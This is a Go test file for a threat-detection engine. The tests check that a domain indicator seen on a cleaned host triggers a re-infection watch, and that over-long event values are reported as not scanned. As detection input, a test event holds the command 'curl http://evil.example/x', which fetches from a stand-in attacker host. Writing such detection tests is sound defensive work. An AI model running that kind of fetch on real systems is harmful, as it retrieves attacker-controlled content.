package match

import (
	"strings"
	"testing"
	"time"

	"aldebaran/event"
	"aldebaran/intel"
	"aldebaran/match/behaviour"
	"aldebaran/match/indicator"
	"aldebaran/match/sigma"
)

// indicatorEngine looks for one domain, on a host that was cleaned.
func indicatorEngine(t *testing.T) *Engine {
	t.Helper()
	set, err := indicator.Compile([]intel.Indicator{{Type: intel.Domain, Value: "evil.example"}}, indicator.Options{})
	if err != nil {
		t.Fatal(err)
	}
	behaviours, err := behaviour.New(behaviour.Config{Remediated: []behaviour.Remediated{{Host: "HOST", At: time.Date(2026, 2, 28, 0, 0, 0, 0, time.UTC)}}})
	if err != nil {
		t.Fatal(err)
	}
	e, err := Compile(&sigma.Collection{}, Options{Indicators: set, Behaviours: behaviours})
	if err != nil {
		t.Fatal(err)
	}
	return e
}

// An indicator on a host that was cleaned is what the watch for re-infection is there for.
func TestIndicatorsAreChained(t *testing.T) {
	e := indicatorEngine(t)
	m := e.NewMatcher()
	ev := started(1, false)
	ev.Values[0] = event.Value{Kind: event.Text, Raw: []byte("curl http://evil.example/x")}
	hits := m.Match(nil, ev)
	if len(hits) != 1 || hits[0].Found == nil || hits[0].Found.Value != "evil.example" {
		t.Fatalf("hits %+v, want the domain", hits)
	}
	if err := e.Observe(&hits[0], ev); err != nil {
		t.Fatal(err)
	}
	var ids []string
	if err := e.Finish(func(c *Correlation) error { ids = append(ids, c.Rule.ID); return nil }); err != nil {
		t.Fatal(err)
	}
	if len(ids) != 1 || ids[0] != "reinfection-watch" {
		t.Errorf("episodes %q, want one of reinfection-watch", ids)
	}
}

// What indicators were not looked for in is told.
func TestIndicatorsTellWhatTheyLeave(t *testing.T) {
	e := indicatorEngine(t)
	if notes := e.Notes(); len(notes) > 0 {
		t.Errorf("notes %q before anything was read", notes)
	}
	ev := started(1, false)
	ev.Values[0].Raw = []byte(strings.Repeat("a ", 1<<20) + "http://evil.example/x") // without it nothing is left
	e.NewMatcher().Match(nil, ev)
	if notes := e.Notes(); len(notes) != 1 || !strings.Contains(notes[0], "so long") {
		t.Errorf("notes %q, want one about long values", notes)
	}
}
